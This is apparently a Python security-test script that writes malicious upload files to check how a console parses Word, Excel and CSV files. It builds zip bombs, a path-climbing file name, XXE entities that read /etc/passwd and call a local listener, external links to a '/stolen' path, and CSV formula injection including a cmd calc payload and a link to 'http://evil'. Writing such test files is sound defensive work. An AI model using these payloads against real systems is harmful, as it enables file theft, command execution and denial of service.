#!/usr/bin/env python3
"""Files that somebody with a session could send to the console to do harm.

Usage: hostile_uploads.py FOLDER PORT     writes them; what would call out calls 127.0.0.1:PORT
"""
import io, sys, zipfile
from pathlib import Path

from hostile import NAMES, cases, docx, p, relations, templates

SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def xlsx(sheet, extra=()):
    """A workbook with one sheet called Questions."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        archive.writestr("_rels/.rels", relations(("officeDocument", "xl/workbook.xml")))
        archive.writestr("xl/workbook.xml", f'<workbook xmlns="{SHEET}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                         '<sheets><sheet name="Questions" sheetId="1" r:id="rId1"/></sheets></workbook>')
        archive.writestr("xl/_rels/workbook.xml.rels", relations(("worksheet", "worksheets/sheet1.xml")))
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        for name, content in dict(extra).items():
            archive.writestr(name, content)
    return file.getvalue()


def outside(port):
    """A template whose pictures, header, attached template and linked object lie elsewhere."""
    url = f"http://127.0.0.1:{port}/stolen"
    kinds = ["image", "header", "attachedTemplate", "oleObject", "hyperlink", "frame", "subDocument", "settings", "styles"]
    lines = "".join(f'<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{url}/{kind}" TargetMode="External"/>'
                    for n, kind in enumerate(kinds, 1))
    body = ('<w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><a:graphic><a:graphicData><pic:pic><pic:blipFill>'
            '<a:blip r:link="rId1"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
            f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE "{url}/field" \\d</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:sectPr><w:headerReference w:type="default" r:id="rId2"/></w:sectPr>')
    return docx(body, {"word/_rels/document.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{lines}</Relationships>'})


def entities(port):
    """A template that asks the parser for files and addresses."""
    kinds = f'<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "http://127.0.0.1:{port}/entity"><!ENTITY % all SYSTEM "http://127.0.0.1:{port}/dtd"> %all;]>'
    return docx("", root=f"{kinds}<w:document {NAMES}><w:body>{p('&file; &net;')}</w:body></w:document>")


def files(port):
    all_cases, all_templates = dict(cases()), dict(templates())
    for label in ("zip bomb: 60 MB of one letter", "zip bomb: forty parts of 10 MB", "sizes that lie", "ten thousand entries",
                  "a name that climbs out", "entity expansion", "a hundred thousand open elements"):
        yield f"{label}.docx", all_cases[label]
    for label in ("loops in loops", "a macro that calls itself"):
        yield f"{label}.docx", all_templates[label]
    yield "things that lie elsewhere.docx", outside(port)
    yield "entities that lie elsewhere.docx", entities(port)
    yield "with macros.docx", docx(p("{{ student.name }}"), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Shell" * 1000, "word/embeddings/oleObject1.bin": b"MZ" * 1000})
    # Polyglots: a page with a document behind it, a document with a program before it.
    yield "a page and a document.docx", b"<html><script>alert(1)</script></html>" + docx(p("x"))
    yield "a program and a document.docx", b"MZ\x90\0" + docx(p("x")) + b"%PDF-1.7"
    yield "a PDF.docx", b"%PDF-1.7\n%\xe2\xe3\n"
    yield "nothing.docx", b""
    # Banks.
    yield "formulas.csv", 'Número,Respuesta,Pregunta\n1,A,"=HYPERLINK(""http://evil"")"\n2,"=cmd|\' /C calc\'!A0",b\n3,+1,-2+3\n4,@SUM(A1),\t=1\n'.encode()
    yield "a cell of a million letters.csv", b"N\xc3\xbamero,Respuesta\n1," + b"a" * 1_000_000 + b"\n"
    yield "a million rows.csv", b"N\xc3\xbamero,Respuesta\n" + b"1,A\n" * 1_000_000
    yield "a million columns.csv", b"a," * 1_000_000 + b"\n" + b"1," * 1_000_000
    yield "no text.csv", bytes(range(256)) * 100
    cells = '<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    yield "a bomb of cells.xlsx", xlsx(f'<worksheet xmlns="{SHEET}"><sheetData>{cells * 1_500_000}</sheetData></worksheet>')
    yield "a cell far away.xlsx", xlsx(f'<worksheet xmlns="{SHEET}"><sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>')
    yield "a bomb of nothing.xlsx", xlsx(f'<worksheet xmlns="{SHEET}">{" " * 300_000_000}</worksheet>')
    yield "entities.xlsx", xlsx(f'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><worksheet xmlns="{SHEET}"><sheetData><row><c t="inlineStr"><is><t>&f;</t></is></c></row></sheetData></worksheet>')
    yield "an old workbook that is none.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 4096


def main():
    folder = Path(sys.argv[1])
    for name, content in files(int(sys.argv[2])):
        (folder / name).write_bytes(content)


if __name__ == "__main__":
    main()
